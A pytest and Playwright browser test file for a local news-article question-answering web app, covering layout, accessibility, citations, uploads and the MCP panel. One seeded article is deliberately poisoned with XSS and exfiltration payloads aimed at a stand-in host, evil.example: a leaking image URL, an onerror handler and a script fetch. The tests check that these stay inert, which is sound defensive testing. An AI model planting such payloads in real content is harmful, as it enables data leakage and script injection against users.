"""The web UI in headless Debian chromium (Playwright with executable_path; `make browser` installs it).

Starts `python app.py` as a user would, over a copy of the seeds plus a poisoned article, and walks
through issue 13's points at 1280×800 and 390×844, light and dark, plus a keyboard-only session and
an upload. Every request the page makes is recorded (any that leaves 127.0.0.1 is blocked and fails
the test), and so is every console error. Screenshots go to test-output/browser/."""

from __future__ import annotations

import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import urlparse

import pytest

from .conftest import REPO, SEEDS

CHROMIUM = Path("/usr/bin/chromium")
OUT = REPO / "test-output" / "browser"
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync"]
EVIL = "evil.example"
POISONED = f"""Lantern Week

Lantern Week opened in Harbin on 4 May 2024. ![px](http://{EVIL}/p.png?leak=SECRET) <img src="http://{EVIL}/i.png" onerror="alert(1)"> [details](http://{EVIL}/more) <script>fetch('http://{EVIL}/x')</script>

Lantern Week closed with a parade of 300 paper lanterns.
"""
DESKTOP, PHONE = {"width": 1280, "height": 800}, {"width": 390, "height": 844}

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian chromium at /usr/bin/chromium: "
                       "run `make browser` (apt-get install -y chromium)"),
]


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def server(tmp_path_factory, settings):
    "`python app.py` on a free port over a copy of the seeds plus a poisoned article; its log on failure."
    root = tmp_path_factory.mktemp("browser")
    seeds, home = root / "seeds", root / "home"
    shutil.copytree(SEEDS, seeds)
    (seeds / "lantern-week.md").write_text(POISONED)
    (home / "cache").mkdir(parents=True)
    shutil.copytree(settings.home / "cache" / "embeddings", home / "cache" / "embeddings")
    os.symlink(settings.home / "models", home / "models")
    port = _free_port()
    env = {k: v for k, v in os.environ.items() if k != "RAG_AUTH"}
    env |= {"RAG_HOME": str(home), "RAG_SEEDS": str(seeds), "GRADIO_ANALYTICS_ENABLED": "False",
            "HF_HUB_OFFLINE": "1", "TRANSFORMERS_OFFLINE": "1", "PYTHONUNBUFFERED": "1"}
    log = open(root / "app.log", "w+")  # noqa: SIM115 (closed below)
    proc = subprocess.Popen([sys.executable, str(REPO / "app.py"), "--port", str(port)], cwd=REPO, env=env,
                            stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
    url = f"http://127.0.0.1:{port}/"
    try:
        deadline = time.monotonic() + 240
        while True:
            if proc.poll() is not None:
                log.seek(0)
                pytest.fail(f"app.py exited with {proc.returncode}:\n{log.read()[-3000:]}")
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                if time.monotonic() > deadline:
                    log.seek(0)
                    pytest.fail(f"app.py did not start within 240 s:\n{log.read()[-3000:]}")
                time.sleep(0.5)
        yield url, settings.with_(seeds=(seeds,), home=home)
    finally:
        os.killpg(proc.pid, signal.SIGTERM)  # the process group we started, nothing else
        try:
            proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
        log.close()


@pytest.fixture(scope="module")
def browser():
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        yield b
        b.close()


@pytest.fixture(scope="module")
def traffic():
    "Every request, every blocked request and every console error, across the whole module."
    return {"requests": [], "blocked": [], "errors": []}


def _open(browser, traffic, viewport, scheme):
    phone = viewport is PHONE
    context = browser.new_context(viewport=viewport, color_scheme=scheme, has_touch=phone, is_mobile=phone,
                                  permissions=["clipboard-read", "clipboard-write"])

    def only_loopback(route):
        host = urlparse(route.request.url).hostname
        if route.request.url.startswith(("data:", "blob:")) or host in ("127.0.0.1", "localhost"):
            route.continue_()
        else:
            traffic["blocked"].append(route.request.url)
            route.abort()

    context.route("**/*", only_loopback)
    page = context.new_page()
    page.on("request", lambda r: traffic["requests"].append(r.url))
    page.on("console", lambda m: traffic["errors"].append(f"{viewport['width']} {scheme}: {m.text}")
            if m.type == "error" and not _monitoring(m.location.get("url", "")) else None)
    page.on("pageerror", lambda e: traffic["errors"].append(f"{viewport['width']} {scheme}: {e}"))
    return context, page


def _monitoring(url: str) -> bool:
    """Gradio's API panel asks /monitoring/summary for latency figures; the app keeps monitoring off
    (launch_options), so that one request is refused (403). Nothing else may fail."""
    return urlparse(url).path == "/monitoring/summary"


def _shot(page, name):
    OUT.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(OUT / f"{name}.png"))


def _flat(text: str) -> str:
    return " ".join(text.split())


def _answers(page):
    return page.locator("#chat .rag-answer:not(.draft)")


def _ask(page, question, n):
    "Type a question, send it with Enter, wait for the n-th checked answer."
    box = page.locator("#question textarea")
    box.fill(question)
    box.press("Enter")
    try:
        page.wait_for_function(f"document.querySelectorAll('#chat .rag-answer:not(.draft)').length >= {n}",
                               timeout=60_000)
    except Exception:
        _shot(page, "failed-ask")
        raise
    page.wait_for_function("document.querySelector('#qcount').textContent.startsWith('0 /')")  # box cleared
    return _answers(page).nth(n - 1)


def _contrast(page, selector) -> float:
    "WCAG contrast ratio of an element's text colour against the page background."
    return page.evaluate("""(sel) => {
        const lum = (c) => { const v = c.match(/[\\d.]+/g).slice(0, 3).map(Number).map((x) => x / 255)
            .map((x) => x <= 0.03928 ? x / 12.92 : ((x + 0.055) / 1.055) ** 2.4);
            return 0.2126 * v[0] + 0.7152 * v[1] + 0.0722 * v[2]; };
        const el = document.querySelector(sel);
        let bg = null;
        for (let e = el; e && !bg; e = e.parentElement) {
            const c = getComputedStyle(e).backgroundColor;
            if (c && !c.endsWith(", 0)") && c !== "transparent") bg = c;
        }
        const a = lum(getComputedStyle(el).color), b = lum(bg || "rgb(255, 255, 255)");
        return (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    }""", selector)


@pytest.mark.parametrize("viewport,scheme", [(DESKTOP, "light"), (DESKTOP, "dark"), (PHONE, "light"), (PHONE, "dark")],
                         ids=["desktop-light", "desktop-dark", "phone-light", "phone-dark"])
def test_reading_an_answer(server, browser, traffic, viewport, scheme):
    url, _ = server
    phone = viewport is PHONE
    tag = f"{'phone' if phone else 'desktop'}-{scheme}"
    context, page = _open(browser, traffic, viewport, scheme)
    page.goto(url)
    example = page.get_by_role("button", name="Select example 1: What is the Beijing Protocol?")
    example.wait_for()
    page.wait_for_timeout(1200)  # the page script's focus/counter set-up

    # 11. The landing page says what the collection covers; the examples and the input are above the fold.
    head = page.locator("#app-head").inner_text()
    # Years of publication: 001-003 state none (only event dates), 000 is from February 2024.
    assert "6 news articles, 2022–2025" in head
    assert example.bounding_box()["y"] + example.bounding_box()["height"] <= viewport["height"]
    assert page.locator("#question textarea").bounding_box()["y"] < viewport["height"]
    # 9. No autofocus on a phone (a real keyboard would pop up and scroll the page); a wide input.
    assert page.evaluate("scrollY") == 0
    focused = page.evaluate("document.activeElement && document.activeElement.closest('#question') !== null")
    assert focused is (not phone)
    assert page.locator("#question textarea").bounding_box()["width"] > (300 if phone else 500)
    # 13. No "Conversation" label over the messages; "New chat" is a labelled button, no bare trash icon.
    assert page.get_by_text("Conversation", exact=True).count() == 0
    assert page.get_by_role("button", name="New chat").is_visible()
    # 7. Ask is disabled while the box is empty; Enter on an empty box does nothing, no error toast.
    assert page.locator("#send").is_disabled()
    page.locator("#question textarea").press("Enter")
    page.wait_for_timeout(400)
    assert page.locator(".toast-body, .toast-wrap .error").count() == 0
    _shot(page, f"landing-{tag}")

    # 12. An example: the answer streams in as a draft, then the checked answer with linked markers.
    page.evaluate("""() => { window.__drafts = 0;
        new MutationObserver(() => { if (document.querySelector('#chat .rag-answer.draft')) window.__drafts++; })
          .observe(document.body, {subtree: true, childList: true, characterData: true}); }""")
    example.click()
    answer = _answers(page).first
    answer.wait_for(timeout=60_000)
    assert "Beijing Protocol" in answer.inner_text() and page.evaluate("window.__drafts") > 0
    meta = page.locator("#chat .rag-msg").first
    assert "Offline extractive" in meta.inner_text()  # 6. which back-end answered
    assert "Searched for: What is the Beijing Protocol?" in _flat(meta.inner_text())  # 1.
    assert page.locator("#settings").count() == 0  # 6. no LLM configured: no settings that change nothing
    page.wait_for_timeout(300)

    # 2. Hover (desktop) or tap (phone) on [1]: a preview with title, date and the highlighted sentence.
    marker = page.locator("#chat a.cite").first
    y_before = page.evaluate("scrollY")
    if phone:
        marker.tap()
    else:
        marker.hover()
    pop = page.locator(".rag-pop")
    pop.wait_for(state="visible")
    text = pop.inner_text()
    assert "[1]" in text and "paragraph" in text and "Read the full article" in text
    if phone:  # a bottom sheet: the paragraph with the cited sentence marked, and no jump down the page
        box = pop.bounding_box()
        assert abs(box["y"] + box["height"] - viewport["height"]) < 2 and box["width"] == viewport["width"]
        assert pop.locator("mark").count() >= 1
    else:
        assert "Open in panel" in text
    _shot(page, f"preview-{tag}")

    if not phone:
        # 13. Clicking a marker opens its card in the panel and scrolls the panel, not the page.
        page.mouse.move(5, 5)
        pop.wait_for(state="hidden")
        page.locator("#chat a.cite").nth(1).click()
        page.wait_for_function("document.getElementById('src-0-2').open")
        page.wait_for_timeout(300)
        assert page.evaluate("scrollY") == y_before
        card = page.locator("#src-0-2")
        assert card.locator(".src-para mark").first.is_visible()
        marker.hover()
        pop.wait_for(state="visible")

    # 3. The full article: every cited span marked, the cited paragraph in view.
    pop.get_by_role("button", name="Read the full article").click()
    reader = page.locator("#reader .reader-doc")
    reader.wait_for()
    assert page.locator("#reader .art-p.focus mark").first.is_visible()
    assert page.locator("#reader .art-p").count() >= 3
    _shot(page, f"article-{tag}")
    page.keyboard.press("Escape")
    reader.wait_for(state="hidden")

    # 4. Retrieved but not cited: collapsed under the cited ones, with rank and score.
    uncited = page.locator("#sources-panel details.uncited").first
    assert uncited.get_attribute("open") is None
    uncited.locator("summary").click()
    hit = uncited.locator("li.hit").first
    assert hit.is_visible() and "#" in hit.locator(".hit-rank").inner_text()
    assert "score 0." in hit.inner_text()

    # 5. Copy gives Markdown with the numbered sources, not HTML.
    page.locator("#chat button.rag-copy").first.click()
    copied = page.evaluate("navigator.clipboard.readText()")
    assert copied.startswith("The Beijing Protocol") and "\n\nSources:\n[1] " in copied and "<" not in copied

    # 1. A follow-up is answered from a rewritten query, shown and editable.
    _ask(page, "What was discussed at the CSCO meeting?", 2)
    follow = _ask(page, "When was it held?", 3)
    assert "2025" in follow.inner_text()
    last = page.locator("#chat .rag-msg").nth(2)
    assert "Searched for: When was it held? (CSCO meeting)" in _flat(last.inner_text())
    last.get_by_role("button", name="Edit and re-run").click()
    assert page.locator("#question textarea").input_value() == "When was it held? (CSCO meeting)"
    assert page.locator("#send").is_enabled()
    page.locator("#question textarea").press("Enter")
    page.wait_for_function("document.querySelectorAll('#chat .rag-answer:not(.draft)').length >= 4",
                           timeout=60_000)
    page.wait_for_timeout(300)
    # the edited query already names its subject: it is searched as it stands, not extended again
    rerun = _flat(page.locator("#chat .rag-msg").nth(3).inner_text())
    assert "Searched for" not in rerun or "(CSCO meeting) (CSCO meeting)" not in rerun
    _shot(page, f"follow-up-{tag}")

    # 8. A long question: a counter with the limit; over the limit Ask is off, nothing is cut silently.
    box = page.locator("#question textarea")
    box.fill("word " * 420)
    page.wait_for_timeout(400)
    assert "2,100 / 2,000" in page.locator("#qcount").inner_text() and page.locator("#send").is_disabled()
    box.press("Enter")
    page.wait_for_timeout(400)
    assert _answers(page).count() == 4 and box.input_value() == "word " * 420
    # ... and a long question that fits is clipped in the panel instead of pushing the sources away.
    _ask(page, "Which award did Professor Huang receive? " + "Please answer with the details. " * 55, 5)
    heading = page.locator("#sources-panel summary.turn-q").first
    assert heading.bounding_box()["height"] < 90 and heading.inner_text().rstrip().endswith("Offline extractive")

    # 13. ⚠ markers keep their contrast in dark mode; the poisoned article stays inert.
    _ask(page, "Where did Lantern Week open?", 6)
    assert "Harbin" in _answers(page).nth(5).inner_text()
    assert page.locator("#chat img, #sources-panel img, #chat script, #sources-panel script").count() == 0
    assert page.locator("#sources-panel .src-para", has_text="[image removed: px]").count() >= 1
    page.evaluate("""() => { const a = document.createElement('a'); a.className = 'cite bad'; a.id = 'probe';
        a.textContent = '[1⚠]'; document.querySelector('#chat .rag-answer').appendChild(a); }""")
    assert _contrast(page, "#probe") >= 4.5
    _shot(page, f"conversation-{tag}")

    # New chat clears the conversation and the panel.
    page.get_by_role("button", name="New chat").click()
    page.wait_for_function("document.querySelectorAll('#chat .rag-msg').length === 0")
    assert "appear here" in page.locator("#sources-panel").inner_text()
    context.close()


def test_keyboard_only(server, browser, traffic):
    "Ask, open a citation's preview and the full article, and return to the input, without a mouse."
    url, _ = server
    context, page = _open(browser, traffic, DESKTOP, "light")
    page.goto(url)
    page.locator("#question textarea").wait_for()
    page.wait_for_timeout(1500)
    kb = page.keyboard
    assert page.evaluate("document.activeElement.closest('#question') !== null")  # focused on a desktop
    kb.type("What is the Beijing Protocol?")
    kb.press("Enter")
    _answers(page).first.wait_for(timeout=60_000)
    for _ in range(40):  # back from the input into the answer, to its last marker
        kb.press("Shift+Tab")
        if page.evaluate("document.activeElement.matches('a.cite')"):
            break
    assert page.evaluate("document.activeElement.matches('a.cite')"), "no marker reachable with Shift+Tab"
    page.locator(".rag-pop").wait_for(state="visible")  # the preview on focus
    kb.press("Enter")  # pin it and move into it
    assert page.evaluate("document.activeElement.closest('.rag-pop') !== null")
    for _ in range(3):
        if page.evaluate("document.activeElement.textContent") == "Read the full article":
            break
        kb.press("Tab")
    kb.press("Enter")
    page.locator("#reader .reader-doc").wait_for()
    page.wait_for_function("document.activeElement.matches('.reader-title')")
    _shot(page, "keyboard-article-desktop-light")
    for _ in range(4):  # back up to the reader's toolbar
        kb.press("Shift+Tab")
        if page.evaluate("document.activeElement.textContent") == "Back to the question":
            break
    assert page.evaluate("document.activeElement.textContent") == "Back to the question"
    kb.press("Enter")
    page.wait_for_function("document.activeElement.closest('#question') !== null")
    assert not page.locator("#reader .reader-doc").is_visible()
    kb.type("Where was it held?")
    kb.press("Enter")
    page.wait_for_function("document.querySelectorAll('#chat .rag-answer:not(.draft)').length >= 2", timeout=60_000)
    context.close()


def test_api_panel_and_mcp_tab(server, browser, traffic):
    "13. The API panel's MCP tab shows the tools (the MCP server runs on 127.0.0.1 by default), no 404."
    url, _ = server
    context, page = _open(browser, traffic, DESKTOP, "light")
    failed = []
    page.on("response", lambda r: failed.append(r.url) if r.status >= 400 and not _monitoring(r.url) else None)
    page.goto(url)
    page.get_by_role("button", name="Use via API or MCP").click()
    page.get_by_text("MCP", exact=True).first.click()
    assert page.get_by_text("3 MCP Tools").count() or page.get_by_text("MCP Tools").count()
    for tool in ("ask", "search", "list_articles"):
        page.get_by_text(tool, exact=True).first.wait_for(timeout=15_000)
    assert "/gradio_api/mcp/" in page.locator("body").inner_text()
    _shot(page, "api-mcp-desktop-light")
    assert failed == [], failed
    context.close()


def test_upload_an_article(server, browser, traffic, tmp_path):
    url, settings = server
    context, page = _open(browser, traffic, DESKTOP, "light")
    page.goto(url)
    page.get_by_role("tab", name="Articles").click()
    table = page.locator("#articles table.articles")
    table.wait_for()
    assert table.locator("tbody tr").count() == 6 and "PUBLISHED" in table.inner_text().upper()
    story = tmp_path / "harbor-notes.md"
    story.write_text("# Harbor notes\n\n2024-06-03\n\nThe Quillon harbor reopened on 2 June 2024 after repairs to "
                     "the pier.\n")
    page.locator("#upload input[type=file]").set_input_files(str(story))
    page.locator("#add").click()
    page.locator("#upload-status li.ok").wait_for(timeout=120_000)
    assert "1 article added" in page.locator("#upload-status").inner_text()
    assert table.locator("tbody tr").count() == 7 and "uploaded" in table.inner_text()
    assert "7 news articles" in page.locator("#app-head").inner_text()
    _shot(page, "articles-desktop-light")
    assert [p.name.startswith("harbor-notes-") for p in settings.uploads.iterdir()] == [True]
    context.close()


def test_nothing_left_127_0_0_1_and_no_console_errors(traffic):
    "Runs last: across every page of this module."
    assert traffic["requests"], "the other tests made no requests"
    assert traffic["blocked"] == [], f"the page tried to reach outside hosts: {traffic['blocked']}"
    hosts = {urlparse(u).hostname for u in traffic["requests"] if not u.startswith(("data:", "blob:"))}
    assert hosts == {"127.0.0.1"}, hosts
    assert EVIL not in " ".join(traffic["requests"])
    assert traffic["errors"] == [], traffic["errors"]
